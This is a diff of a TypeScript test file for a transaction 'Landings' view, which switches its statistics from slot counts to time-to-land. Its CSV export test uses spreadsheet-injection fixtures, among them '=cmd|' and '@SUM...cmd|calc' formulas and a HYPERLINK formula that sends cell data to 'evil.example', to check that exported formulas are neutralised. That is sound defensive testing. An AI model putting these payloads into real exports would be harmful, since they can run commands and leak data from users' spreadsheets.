@@ -562,8 +562,11 @@ describe('The Landings view', () => {
     }
   });
 
-  test('shows slots, failures with the fee lost, and prominent alarms', () => {
-    const landed = entry({ state: 'landed', landedSlot: 102, confirmation: 'finalized' });
+  test('shows the time to land, failures with the fee lost, and prominent alarms', () => {
+    const landed = entry({
+      ...{ state: 'landed', landedSlot: 102, confirmation: 'finalized' },
+      landMilliseconds: 1_234,
+    });
     const failed = entry({
       id: 'two',
       state: 'failed',
@@ -574,35 +577,42 @@ describe('The Landings view', () => {
     assert.equal(rows[0]?.context, 'landingStatistics');
     assert.equal(rows[1]?.description, 'landed · Sandbox');
     const facts = Object.fromEntries(rows[1]?.facts() ?? []);
-    assert.deepEqual([facts['Slots to land'], facts['Confirmation']], ['2', 'finalized']);
+    assert.deepEqual(
+      [facts['Landed in slot'], facts['Time to land'], facts['Confirmation']],
+      ['102', '1.2 s (including polling)', 'finalized'],
+    );
+    // An entry of an earlier version has no time.
+    const [, old] = landingRows([entry({ state: 'landed', landedSlot: 102 })]);
+    assert.doesNotMatch(String(old?.facts()), /Time to land/);
     assert.match(rows[2]?.description ?? '', /^failed/);
     assert.match(rows[2]?.note ?? '', /The fee was charged/);
     assert.match(rows[3]?.description ?? '', /^ALARM · Sandbox$/);
     assert.match(rows[3]?.note ?? '', /another signature/);
   });
 
-  test('computes landing rate and slots by provider and option from settled submissions only', () => {
+  test('computes landing rate and time by provider and option from settled submissions only', () => {
     const all = landingStatistics([
-      entry({ state: 'landed', landedSlot: 101 }),
-      entry({ state: 'landed', landedSlot: 105 }),
+      entry({ state: 'landed', landMilliseconds: 400 }),
+      entry({ state: 'landed', landMilliseconds: 2_400 }),
+      entry({ state: 'landed' }),
       entry({ state: 'expired' }),
-      entry({ state: 'failed', landedSlot: 103, frontRunningProtection: true }),
+      entry({ state: 'failed', landMilliseconds: 900, frontRunningProtection: true }),
       entry({ state: 'accepted' }),
       entry({ state: 'refused' }),
     ]);
     assert.deepEqual(
-      all.map(({ label, sent, landed, failed, expired, medianSlots }) => [
+      all.map(({ label, sent, landed, failed, expired, medianLandMilliseconds }) => [
         label,
         sent,
         landed,
         failed,
         expired,
-        medianSlots,
+        medianLandMilliseconds,
       ]),
       [
-        ['', 4, 2, 1, 1, 3],
-        ['Sandbox, JITO, unprotected', 3, 2, 0, 1, 1],
-        ['Sandbox, JITO, protected', 1, 0, 1, 0, 3],
+        ['', 5, 3, 1, 1, 900],
+        ['Sandbox, JITO, unprotected', 4, 3, 0, 1, 400],
+        ['Sandbox, JITO, protected', 1, 0, 1, 0, 900],
       ],
     );
     assert.deepEqual(landingStatistics([entry()]), []);
@@ -610,7 +620,13 @@ describe('The Landings view', () => {
 
   test('exports CSV without executable formulas', () => {
     const text = landingsCsv([
-      entry({ message: '=cmd|"x"', state: 'landed', landedSlot: 103, uuid: 'a,b' }),
+      entry({
+        message: '=cmd|"x"',
+        state: 'landed',
+        landedSlot: 103,
+        landMilliseconds: 678,
+        uuid: 'a,b',
+      }),
       entry({
         uuid: '@SUM(1+1)*cmd|"calc"!A1',
         message: '=HYPERLINK("https://evil.example?"&A1,"[click](command:x)"),\r\n<b>\u202e</b>',
@@ -622,7 +638,7 @@ describe('The Landings view', () => {
     const [head = '', line = ''] = text.split('\r\n');
     assert.match(head, /^submitted_at,signature,uuid,state,/);
     assert.match(line, /,"a,b",landed,/);
-    assert.match(line, /,100,103,3,6000,JITO,1500000,/);
+    assert.match(line, /,100,103,0\.678,6000,JITO,1500000,/);
     assert.match(line, /"'=cmd\|""x"""/);
     const [, hostile = {}] = readCsv(text);
     assert.equal(hostile['fee_lamports'], '18446744073709551615');
